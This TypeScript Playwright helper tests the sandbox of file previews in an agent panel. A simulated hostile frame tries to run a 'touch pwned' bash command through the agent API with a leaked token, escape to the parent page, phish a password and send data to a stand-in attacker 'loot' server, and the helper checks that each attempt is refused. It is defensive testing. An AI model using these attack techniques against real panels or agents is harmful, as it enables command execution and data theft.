// A hostile page in a preview, and the listeners with which it tries to speak.
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { access } from 'node:fs/promises';
import { createServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import type { Frame, Page } from '@playwright/test';
import { expect, type RunningPanel } from './panel.ts';

const PACKET = 'a packet';

export interface Listener {
  port: number;
  /** The first bytes of each connection or packet; '' for a connection without any. */
  heard: string[];
  close: () => void;
}

/** Hears every connection, also one that is only opened ahead of its use, and every packet. */
export async function listenFor(): Promise<Listener> {
  const heard: string[] = [];
  const server = createServer((socket) => {
    const at = heard.push('') - 1;
    socket.on('data', (chunk) => (heard[at] += chunk.toString('latin1').slice(0, 200)));
    socket.on('error', () => undefined);
    socket.setTimeout(1000, () => socket.destroy());
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  const packets = createSocket('udp4', () => heard.push(PACKET));
  packets.bind(port, '127.0.0.1');
  await once(packets, 'listening');
  return {
    port,
    heard,
    close: () => {
      server.close();
      packets.close();
    },
  };
}

export interface HostileTarget {
  /** The panel's origin. */
  panel: string;
  /** The token, as if it had leaked. */
  token: string;
  agent: string;
  /** The address of another preview. */
  other: string;
  /** A server of the attacker. */
  loot: string;
}

/** Runs in the hostile page. Returns what each attack came to. */
async function attackPage({
  panel,
  token,
  agent,
  other,
  loot,
}: HostileTarget): Promise<Record<string, string>> {
  const tried = async (act: () => unknown): Promise<string> => {
    try {
      return String(await act());
    } catch (error) {
      return `refused: ${(error as Error).name}`;
    }
  };
  const loads = (name: 'img' | 'script' | 'iframe' | 'link', address: string, rel = ''): Promise<string> =>
    new Promise((resolve) => {
      const made = document.createElement(name);
      made.onload = () => resolve('loaded');
      made.onerror = () => resolve('refused');
      if (made instanceof HTMLLinkElement) {
        made.rel = rel;
        made.href = address;
      } else made.src = address;
      document.body.append(made);
      setTimeout(() => resolve('nothing'), 1500);
    });
  const click = (change: (link: HTMLAnchorElement) => void): void => {
    const link = document.createElement('a');
    link.href = `${loot}/link`;
    change(link);
    document.body.append(link);
    link.click();
  };
  const headers = { authorization: `Bearer ${token}` };
  const body = JSON.stringify({ type: 'bash', command: 'touch pwned' });
  const command = `${panel}/api/agents/${agent}/commands`;
  const ask = (address: string, init: RequestInit = {}): Promise<string> =>
    tried(async () => {
      const answer = await fetch(address, init);
      return `${answer.type} ${answer.status}`;
    });
  const form = document.createElement('form');
  form.action = `${loot}/form`;
  form.target = '_top';
  document.body.append(form);
  const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${loot.slice('http://'.length)}` }] });
  await tried(async () => {
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  });

  return {
    // The API, with the token and without it, at the panel's address and at the frame's own.
    read: await ask(`${panel}/api/agents`, { headers }),
    readBare: await ask(`${panel}/api/agents`),
    blind: await ask(command, { method: 'POST', mode: 'no-cors', body }),
    write: await ask(command, {
      method: 'POST',
      headers: { ...headers, 'content-type': 'application/json' },
      body,
    }),
    own: await ask('/api/agents', { headers }),
    image: await loads('img', `${panel}/icon.svg`),
    script: await loads('script', `${panel}/service-worker.js`),
    // The page around it.
    top: await tried(() => window.top!.document.title),
    topStorage: await tried(() => window.top!.localStorage.length),
    topFetch: await tried(() => (window.top as unknown as typeof globalThis).fetch('/api/agents')),
    parentOrigin: await tried(() => window.parent.location.href),
    leadTop: await tried(() => (window.top!.location.href = `${loot}/top`)),
    opener: await tried(() => window.opener),
    // Windows, downloads, dialogs, devices.
    popup: await tried(() => window.open(`${loot}/popup`)),
    popupName: await tried(() => window.open(`${loot}/popup`, '_top')),
    link: await tried(() => click((link) => (link.target = '_top'))),
    blank: await tried(() => click((link) => (link.target = '_blank'))),
    ping: await tried(() => click((link) => ((link.ping = `${loot}/ping`), (link.href = '#x')))),
    download: await tried(() => click((link) => ((link.href = 'a.txt'), (link.download = 'a.txt')))),
    form: await tried(() => form.submit()),
    confirm: await tried(() => confirm('Allow?')),
    prompt: await tried(() => prompt('Password?')),
    readClipboard: await tried(() => navigator.clipboard.readText()),
    writeClipboard: await tried(() => navigator.clipboard.writeText('x')),
    notify: await tried(() => Notification.requestPermission()),
    fullscreen: await tried(() => document.body.requestFullscreen()),
    camera: await tried(() => navigator.mediaDevices.getUserMedia({ audio: true })),
    worker: await tried(() => navigator.serviceWorker.register('worker.js')),
    // Storage, and other previews.
    storage: await tried(() => Object.keys(localStorage).join()),
    cookie: await tried(() => ((document.cookie = 'shared=1; domain=localhost'), document.cookie)),
    otherRead: await ask(other),
    otherFrame: await tried(() => Array.from(window.top!, (each) => each.location.href)),
    leadOther: await tried(() => {
      const frames = window.top!;
      for (let n = 0; n < frames.length; n++)
        if (frames[n] !== window) frames[n]!.location.href = `${loot}/other`;
      return 'none';
    }),
    // Ways out.
    fetchOut: await ask(`${loot}/fetch`, { mode: 'no-cors' }),
    beacon: await tried(() => navigator.sendBeacon(`${loot}/beacon`, 'x')),
    imageOut: await loads('img', `${loot}/image`),
    scriptOut: await loads('script', `${loot}/script.js`),
    styleOut: await loads('link', `${loot}/style.css`, 'stylesheet'),
    prefetch: await loads('link', `${loot}/prefetch`, 'prefetch'),
    preload: await loads('link', `${loot}/preload`, 'modulepreload'),
    frameOut: await tried(() => void loads('iframe', `${loot}/frame`)),
    socketOut: await tried(
      () =>
        new Promise((resolve) => {
          const socket = new WebSocket(`${loot.replace('http', 'ws')}/socket`);
          socket.onopen = () => resolve('open');
          socket.onerror = () => resolve('refused');
        }),
    ),
    streamOut: await tried(
      () =>
        new Promise((resolve) => {
          const source = new EventSource(`${loot}/stream`);
          source.onopen = () => resolve('open');
          source.onerror = () => (source.close(), resolve('refused'));
        }),
    ),
    importOut: await tried(() => import(/* @vite-ignore */ `${loot}/module.js`)),
  };
}

/** Opens another preview, of `a.txt`, which the page does not show. */
export async function openOther(panel: RunningPanel): Promise<{ agent: string; other: string }> {
  const [{ id: agent } = { id: '' }] = await panel.agents();
  const body = { source: { file: 'a.txt', hasNetwork: false }, way: 'host', page: `${panel.origin}/` };
  const { name } = (await (await panel.post(`agents/${agent}/frames`, body)).json()) as { name: string };
  return { agent, other: `http://${name}.localhost:${panel.port}/a.txt` };
}

/** Expects that nothing was started and no command was run. */
export async function expectNoEffect(panel: RunningPanel): Promise<void> {
  expect(await panel.agents()).toHaveLength(1);
  await expect(access(path.join(panel.workspace, 'pwned'))).rejects.toThrow();
}

interface Attack {
  page: Page;
  panel: RunningPanel;
  agent: string;
  /** The address of another preview. */
  other: string;
  loot: Listener;
}

/** Attacks from inside the frame, and resolves to what each attack came to. Nothing of it may reach the page. */
export async function attackFrom(
  evil: Frame,
  { page, panel, agent, other, loot }: Attack,
): Promise<Record<string, string>> {
  const before = page.url();
  const asked: string[] = [];
  page.on('dialog', (dialog) => {
    asked.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('download', (download) => asked.push(download.url()));
  const came = await evil.evaluate(attackPage, {
    panel: panel.origin,
    token: panel.token,
    agent,
    other,
    loot: `http://127.0.0.1:${loot.port}`,
  });
  // Whatever was clicked, asked or opened: the page is where it was, asks nothing and saves nothing.
  expect(page.url()).toBe(before);
  expect(asked).toEqual([]);
  return came;
}

/** Attacks from inside the frame of a file, and expects that nothing comes of it. */
export async function expectHarmless(evil: Frame, attack: Attack): Promise<void> {
  for (const [name, result] of Object.entries(await attackFrom(evil, attack))) {
    const isHarmless =
      /^(?:refused.*|nothing|null|undefined|denied|default|false|none|)$/.test(result) ||
      // Orders that are taken without an answer: what came of them is checked elsewhere.
      ['leadTop', 'beacon'].includes(name);
    expect(isHarmless, `${name}: ${result}`).toBe(true);
  }
  // No browser of today obeys the policy for WebRTC: see "What is not promised" in SECURITY.md.
  expect(attack.loot.heard.filter((each) => each !== PACKET)).toEqual([]);
}
